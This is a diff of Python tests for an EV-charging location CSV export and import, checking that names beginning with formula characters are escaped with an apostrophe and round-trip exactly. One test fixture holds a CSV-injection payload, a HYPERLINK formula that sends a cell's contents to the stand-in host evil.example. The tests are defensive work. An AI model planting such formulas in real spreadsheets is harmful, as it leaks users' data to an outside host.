@@ -23,7 +23,8 @@ from locations.estate_csv import (
 )
 from locations.estate_import import plan_estate_import
 from locations.models import EVSE, Connector, Location
-from ocpi.estate_csv import Column, ImportPlan, csv_lines
+from ocpi.csv_cells import csv_lines
+from ocpi.estate_csv import Column, ImportPlan
 from push.models import Change
 from tests.csv_files import streamed, table, written
 from tests.locations.conftest import location_payload, upsert
@@ -89,6 +90,49 @@ def test_round_trip_changes_nothing_and_pushes_nothing(estate: list[Location]) -
     assert plan.writes == []
     assert pushes() == []
     assert list(Location.objects.order_by("pk").values_list("last_updated", flat=True)) == before
+
+
+def test_names_a_spreadsheet_would_run_are_written_as_text_and_read_back_exactly(
+    estate: list[Location],
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    upsert(location_payload("LOC3", name=formula))
+    upsert(location_payload("LOC4", name="'quoted"))
+    upsert(location_payload("LOC5", name="-12.50"))
+    Change.objects.all().delete()
+    files = exported()
+
+    names = {row["id"]: row["name"] for row in table(files[LOCATIONS])}
+    assert (names["LOC3"], names["LOC4"], names["LOC5"]) == ("'" + formula, "''quoted", "-12.50")
+
+    plan = plan_estate_import(files)
+    plan.write()
+
+    assert plan.ok, errors(plan)
+    assert {r.outcome for r in plan.reports} == {"unchanged"}
+    assert pushes() == []
+
+
+def test_a_formula_typed_without_an_apostrophe_or_an_apostrophe_dropped_is_a_change(
+    estate: list[Location],
+) -> None:
+    upsert(location_payload("LOC3", name="'quoted"))
+    Change.objects.all().delete()
+    locations = table(exported()[LOCATIONS])
+    locations[0]["name"] = "=1+1"  # typed in a spreadsheet as text: no apostrophe to strip
+    locations[2]["name"] = "'quoted"  # one apostrophe: read as the text "quoted"
+
+    plan = plan_estate_import({LOCATIONS: written(locations)})
+    plan.write()
+
+    assert plan.ok, errors(plan)
+    assert [(r.key, r.outcome) for r in plan.reports] == [
+        ("BE*BEC*LOC1", "changed"),
+        ("BE*BEC*LOC2", "unchanged"),
+        ("BE*BEC*LOC3", "changed"),
+    ]
+    stored = dict(Location.objects.values_list("ocpi_id", "name"))
+    assert (stored["LOC1"], stored["LOC3"]) == ("=1+1", "quoted")
 
 
 def test_errors_are_reported_per_row_and_nothing_is_written(estate: list[Location]) -> None:
